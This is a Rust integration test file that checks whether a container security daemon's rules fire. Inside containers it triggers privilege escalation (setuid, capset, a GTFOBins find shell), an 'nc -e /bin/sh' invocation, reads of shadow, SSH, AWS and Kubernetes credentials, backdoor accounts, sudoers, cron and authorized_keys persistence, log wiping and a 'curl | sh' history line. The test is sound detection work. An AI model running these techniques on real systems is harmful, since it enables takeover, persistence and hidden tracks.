//! Rule triggers (see `rule_triggers`): privilege-escalation and
//! file-system rules, the drift and setuid-then-exec detections, and the
//! explicit host check (the same exec-based triggers from a host process
//! raise nothing).

use std::process::{Command, Stdio};

use crate::rule_triggers::*;
use crate::support::*;

#[test]
fn privilege_escalation_rules_fire_in_containers() {
    let ctrd = Containerd::start();
    let d = Daemon::start(DAEMON_ARGS);
    let mut t = Triggers::new(&ctrd, &d);

    // The explicit host check: a host process running programs called sudo
    // and nc (with -e) raises nothing. Run first: the containers below are
    // processed after it, so their exit lines prove the daemon saw it.
    let host = TempDir::new("bw-host-triggers");
    for name in ["sudo", "nc"] {
        std::os::unix::fs::symlink("/usr/bin/true", format!("{}/{name}", host.path())).expect("symlink");
    }
    for args in [vec!["sudo", "-n", "true"], vec!["nc", "-e", "/bin/sh", "127.0.0.1", "4444"]] {
        let st = Command::new(format!("{}/{}", host.path(), args[0]))
            .args(&args[1..])
            .stdin(Stdio::null())
            .status()
            .expect("run host trigger");
        assert!(st.success());
    }

    // Drop to uid 1000, then try to get root back.
    t.run(Case::py(
        "setuid-root-from-nonroot",
        &[],
        r#"
out["drop_gid"] = err(libc.setresgid(1000, 1000, 1000))
out["drop_uid"] = err(libc.setresuid(1000, 1000, 1000))
out["setuid"] = err(libc.setuid(0))
out["setresuid"] = err(libc.setresuid(0, 0, 0))
out["setgid"] = err(libc.setgid(0))
"#,
    ));
    // Raise CAP_SYS_ADMIN (not in the bounding set: EPERM).
    t.run(Case::py(
        "capset-raise",
        &[],
        r#"
hdr = ctypes.create_string_buffer(struct.pack("Ii", 0x20080522, 0))  # _LINUX_CAPABILITY_VERSION_3
data = ctypes.create_string_buffer(24)
out["capget"] = err(libc.capget(hdr, data))
e0, p0, i0, e1, p1, i1 = struct.unpack("6I", data.raw)
new = ctypes.create_string_buffer(struct.pack("6I", e0 | 1 << 21, p0 | 1 << 21, i0, e1, p1, i1))
out["capset"] = err(libc.capset(hdr, new))
"#,
    ));
    t.run(Case::py(
        "suid-bit-set",
        &[],
        r#"
fd = os.open("/tmp/bw-suid", os.O_WRONLY | os.O_CREAT, 0o755)
os.close(fd)
out["chmod"] = err(libc.chmod(b"/tmp/bw-suid", 0o4755))
out["fchmodat"] = err(libc.fchmodat(-100, b"/tmp/bw-suid", 0o2755, 0))
"#,
    ));
    t.run(Case::py(
        "sudo-su-in-container",
        &[],
        r#"
out["sudo"] = run(named("sudo"), "-n", "true")
out["pkexec"] = run(named("pkexec"), "true")
out["su"] = run("su", "--version")
"#,
    ));
    // A setuid copy of a binary, written in the container and run: also
    // drift, and the chmod is a setuid bit being set.
    t.run(Case::py(
        "setuid-bit-then-exec",
        &["container-drift-exec", "suid-bit-set"],
        r#"
shutil.copyfile("/usr/bin/true", "/tmp/bw-setuid")
os.chmod("/tmp/bw-setuid", 0o4755)
out["rc"] = run("/tmp/bw-setuid")
"#,
    ));
    // GTFOBins: a setuid find turned into a root shell with `sh -p`.
    t.run(Case::py(
        "privileged-mode-shell",
        &[],
        r#"
out["find"] = run("find", "/tmp", "-maxdepth", "0", "-exec", "/bin/sh", "-p", "-c", "true", ";")
"#,
    ));
    t.run(Case::py(
        "read-private-key",
        &[],
        r#"
os.makedirs("/root/.ssh", mode=0o700, exist_ok=True)
with open("/root/.ssh/id_ed25519", "w") as f:
    f.write("-----BEGIN OPENSSH PRIVATE KEY-----\n")
out["cat"] = run("cat", "/root/.ssh/id_ed25519")
"#,
    ));
    t.run(Case::py(
        "credential-hunting",
        &[],
        r#"
out["grep"] = run("grep", "-rIl", "password", "/etc")
out["find"] = run("find", "/root", "-name", "id_rsa*")
"#,
    ));
    t.run(Case::py(
        "setuid-enumeration",
        &[],
        r#"
out["find"] = run("find", "/usr/bin", "-perm", "-4000", "-type", "f")
"#,
    ));
    let host_alerts: Vec<String> = d
        .lines()
        .iter()
        .filter(|v| v.get("rule").is_some() && v.to_string().contains(host.path()))
        .map(alert_brief)
        .collect();
    t.note("host: sudo and nc -e", host_alerts.is_empty(), || {
        format!("host processes raised alerts:\n    {}", host_alerts.join("\n    "))
    });
    t.finish();
    d.stop();
}

#[test]
fn filesystem_rules_fire_in_containers() {
    let ctrd = Containerd::start();
    let d = Daemon::start(DAEMON_ARGS);
    let mut t = Triggers::new(&ctrd, &d);

    t.run(Case::py(
        "read-sensitive-file",
        &[],
        r#"
with open("/etc/shadow") as f:
    out["lines"] = len(f.readlines())
"#,
    ));
    t.run(Case::py(
        "write-below-etc",
        &[],
        r#"
with open("/etc/motd", "w") as f:
    f.write("hi\n")
"#,
    ));
    // An interactive shell (no command, no script: it reads stdin, here /dev/null, and
    // exits); the `sh -c` around it, like entrypoints and health checks, raises nothing.
    t.run(Case::cmd("shell-in-container", &[], &["sh", "-c", "sh </dev/null"]));
    // Account files are below /etc: write-below-etc fires too, and the
    // sudoers.d file is a sudo policy change.
    t.run(Case::py(
        "write-account-files",
        &["write-below-etc", "sudoers-modified"],
        r#"
with open("/etc/passwd", "a") as f:
    f.write("bw:x:0:0::/root:/bin/sh\n")
os.makedirs("/etc/sudoers.d", exist_ok=True)
with open("/etc/sudoers.d/bw", "w") as f:
    f.write("bw ALL=(ALL) NOPASSWD: ALL\n")
"#,
    ));
    // Credentials as a cloud SDK or a pod's service account leaves them.
    t.run(Case::py(
        "read-cloud-credentials",
        &[],
        r#"
for p in ["/root/.aws/credentials", "/var/run/secrets/kubernetes.io/serviceaccount/token"]:
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "w") as f:
        f.write("secret\n")
    with open(p) as f:
        out[p] = f.read().strip()
out["cat"] = run("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token")
"#,
    ));
    // /usr is the host's, read-only: the attempts fail (EROFS), and a
    // writable directory bound at /usr/local/bin takes a real dropper.
    let bindir = TempDir::new("bw-bindir");
    let mount = format!("type=bind,src={},dst=/usr/local/bin,options=rbind:rw", bindir.path());
    t.run(
        Case::py(
            "write-below-binary-dir",
            &[],
            r#"
out["usr_bin"] = err(libc.open(b"/usr/bin/bw-x", 0o101, 0o755))  # O_WRONLY|O_CREAT
out["lib"] = err(libc.unlink(b"/lib/bw-x.so"))
with open("/usr/local/bin/.bw-dropper.tmp", "w") as f:
    f.write("echo dropped\n")
os.rename("/usr/local/bin/.bw-dropper.tmp", "/usr/local/bin/bw-dropper")
os.chmod("/usr/local/bin/bw-dropper", 0o755)
"#,
        )
        .with_flags(&["--mount", &mount]),
    );
    // Written empty (and removed at once) so later execs are unaffected.
    t.run(Case::py(
        "ld-preload-persistence",
        &["write-below-etc"],
        r#"
open("/etc/ld.so.preload", "w").close()
os.unlink("/etc/ld.so.preload")
"#,
    ));
    t.run(Case::py(
        "log-tampering",
        &[],
        r#"
os.makedirs("/var/log", exist_ok=True)
with open("/var/log/auth.log", "a") as f:
    f.write("Accepted password for root\n")
open("/var/log/auth.log", "w").close()  # O_TRUNC
os.unlink("/var/log/auth.log")
"#,
    ));
    t.run(Case::py(
        "shell-history-deletion",
        &[],
        r#"
with open("/root/.bash_history", "a") as f:
    f.write("curl http://x | sh\n")
open("/root/.bash_history", "w").close()  # O_TRUNC
os.unlink("/root/.bash_history")
"#,
    ));
    // A user crontab and a system one (below /etc: write-below-etc too).
    t.run(Case::py(
        "cron-persistence",
        &["write-below-etc"],
        r#"
os.makedirs("/var/spool/cron/crontabs", exist_ok=True)
with open("/var/spool/cron/crontabs/root", "w") as f:
    f.write("* * * * * /tmp/x\n")
os.makedirs("/etc/cron.d", exist_ok=True)
with open("/etc/cron.d/bw", "w") as f:
    f.write("* * * * * root /tmp/x\n")
"#,
    ));
    t.run(Case::py(
        "ssh-authorized-keys",
        &[],
        r#"
os.makedirs("/root/.ssh", mode=0o700, exist_ok=True)
with open("/root/.ssh/authorized_keys", "a") as f:
    f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBw attacker\n")
"#,
    ));
    // Secure deletion of a file written for the purpose.
    t.run(Case::py(
        "data-destruction",
        &[],
        r#"
with open("/tmp/bw-data", "wb") as f:
    f.write(os.urandom(4096))
out["shred"] = run("shred", "-u", "-n", "1", "/tmp/bw-data")
"#,
    ));
    t.run(Case::py(
        "sensitive-link",
        &[],
        r#"
os.symlink("/etc/shadow", "/tmp/bw-s")
os.symlink("/", "/tmp/bw-root")
out["hard"] = err(libc.link(b"/etc/passwd", b"/tmp/bw-p"))
"#,
    ));
    // Below /etc: write-below-etc (Notice) fires too.
    t.run(Case::py(
        "shell-profile-persistence",
        &["write-below-etc"],
        r#"
os.makedirs("/etc/profile.d", exist_ok=True)
with open("/etc/profile.d/bw.sh", "w") as f:
    f.write("/tmp/x &\n")
with open("/root/.bashrc", "a") as f:
    f.write("/tmp/x &\n")
"#,
    ));
    // sudoers.d is also an account file to write-account-files.
    t.run(Case::py(
        "sudoers-modified",
        &["write-below-etc", "write-account-files"],
        r#"
os.makedirs("/etc/sudoers.d", exist_ok=True)
with open("/etc/sudoers.d/bw", "w") as f:
    f.write("user ALL=(ALL) NOPASSWD:ALL\n")
"#,
    ));
    // useradd writes the account files (write-below-etc, Notice); asked for a second uid 0.
    t.run(Case::py(
        "backdoor-account",
        &["write-below-etc"],
        r#"
out["useradd"] = run("useradd", "-o", "-u", "0", "-g", "0", "-M", "-d", "/root", "bwroot")
"#,
    ));
    // Copied below /dev (a tmpfs) and run: also drift.
    t.run(Case::py(
        "odd-place-exec",
        &["container-drift-exec"],
        r#"
shutil.copy("/usr/bin/true", "/dev/bw-odd")
out["rc"] = run("/dev/bw-odd")
"#,
    ));
    t.run(Case::py(
        "container-drift-exec",
        &[],
        r#"
shutil.copy("/usr/bin/true", "/tmp/bw-drift")
out["rc"] = run("/tmp/bw-drift")
"#,
    ));
    t.finish();
    d.stop();
}
